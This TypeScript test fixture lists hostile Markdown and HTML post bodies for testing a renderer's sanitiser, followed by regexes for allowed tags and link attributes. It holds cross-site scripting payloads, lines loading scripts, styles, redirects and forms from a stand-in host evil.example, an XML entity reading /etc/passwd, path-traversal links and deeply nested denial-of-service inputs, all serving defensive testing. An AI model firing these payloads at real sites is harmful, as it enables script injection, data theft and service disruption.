// Posts that have broken some renderer of Markdown, for tests, and what may stand in an HTML of ours.

const deep = (mark: string, count: number) => mark.repeat(count);

/** What someone types or pastes as the text of a post. */
export const hostilePosts: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="//evil.example/x.swf">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css";</style>',
  '<div style="position:fixed;inset:0">x</div>',
  '<form action="//evil.example"><button>Send</button></form>',
  '<details open ontoggle=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
  '[x](javascript:alert(1))',
  '[x](JaVa\tScRiPt:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](" onmouseover="alert(1))',
  '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '![x](https://evil.example/pixel.gif)',
  '![x](//evil.example/pixel.gif)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x" onerror="alert(1)](back-lawn-rotor-spray)',
  '![x](upload-1)',
  '![x](upload-99999999999)',
  '![x](__proto__)',
  '![x](../../../../etc/passwd)',
  '# <script>alert(1)</script>',
  '```"><script>alert(1)</script>\nx\n```',
  '| <script>alert(1)</script> |\n|:--|\n| <img src=x onerror=alert(1)> |',
  '> '.repeat(1_000),
  `${deep('[', 5_000)}x${deep('](', 5_000)}`,
  deep('*_', 10_000),
  deep('- ', 5_000),
  deep('`', 15_000),
  `${deep('![', 7_000)}x`,
  `[a]: b\n${deep('[a]', 9_000)}`,
  `x${deep(' ', 29_000)}\u202Etxt.exe\u0000`,
  '<!-- <script>alert(1)</script> --> after <!-- never closed',
  '```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>] --> B; click A "javascript:alert(1)"\n```',
  'https://evil.example/"onmouseover="alert(1) and www.evil.example/<script>alert(1)</script>',
  deep('[', 10_000),
  `${deep('>', 10_000)} deep`,
  `[a]: b\n[b]: a\n\n${deep('![a][b]', 2_000)}`,
  `|${deep('a|', 5_000)}\n|${deep('-|', 5_000)}\n|${deep('b|', 5_000)}`,
  `|a|\n|-|\n${deep('|b|\n', 7_000)}`,
  `${deep('<div>', 5_000)}`,
  'x\u202Egnp.exe\u202C \u2066y\u2069 \uFEFF',
];

/** What may stand in an HTML of ours; everything else that looks like a tag is escaped. */
export const TAGS =
  /<\/?(p|h[2-6]|em|strong|s|a|ul|ol|li|blockquote|pre|code|hr|br|table|thead|tbody|tr|th|td|div|picture|source|img)(\s[^<>]*)?>/g;

/** Addresses of links and pictures. */
export const ADDRESSES = /\s(?:href|src|srcset)="([^"]*)"/g;
